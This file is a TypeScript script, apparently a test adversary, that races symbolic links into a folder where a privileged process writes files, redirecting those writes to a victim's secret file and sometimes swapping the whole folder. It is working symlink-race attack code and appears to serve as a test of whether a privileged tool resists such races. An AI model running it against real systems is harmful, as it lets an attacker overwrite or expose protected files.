import { existsSync, readdirSync, renameSync, rmSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'

const NOBODY = 65534
/** File names that a careless program would use. */
const GUESSED = ['b.db.partial', 'production.db.restoring', 'all.csv.unfinished', 'b.db-journal', 'b.db.tmp']

/**
 * Runs as its own process, as the compromised account of a service. Replaces whatever root creates in its folder with links,
 * and sometimes the folder too, until it is killed. Prints how many links it planted.
 */
function plant(folder: string, victim: string): void {
  const data = join(folder, 'data')
  for (let turn = 0, planted = 0; ; turn++) {
    for (const name of [...GUESSED, ...namesIn(data)]) {
      const isOurs = GUESSED.includes(name)
      if (!isOurs && !/-draft-|-lock$/.test(name)) continue
      if (exchange(join(data, name), join(victim, 'secret'), isOurs)) planted++
    }
    if (turn % 20 === 0 && exchangeForAMoment(data, victim)) planted++
    if (turn % 20 === 0) process.stdout.write(`${planted}\n`)
    // Sometimes lets a command through: a store that never opens cannot be attacked.
    Bun.sleepSync(turn % 40)
  }
}

const namesIn = (folder: string): string[] => {
  try {
    return readdirSync(folder)
  } catch {
    return []
  }
}

/** Whether a link replaced the file, or took a free name. */
function exchange(path: string, to: string, isGuess: boolean): boolean {
  try {
    if (existsSync(path)) {
      if (isGuess) return false
      renameSync(path, `${path}.taken`)
    }
    symlinkSync(to, path)
    rmSync(`${path}.taken`, { recursive: true, force: true })
    return true
  } catch {
    return false
  }
}

function exchangeForAMoment(folder: string, to: string): boolean {
  try {
    renameSync(folder, `${folder}.own`)
    symlinkSync(to, folder)
    Bun.sleepSync(2)
    rmSync(folder)
    renameSync(`${folder}.own`, folder)
    return true
  } catch {
    return false
  }
}

const [folder = '', victim = ''] = process.argv.slice(2)
process.setgroups?.([])
process.setgid?.(NOBODY)
process.setuid?.(NOBODY)
plant(folder, victim)
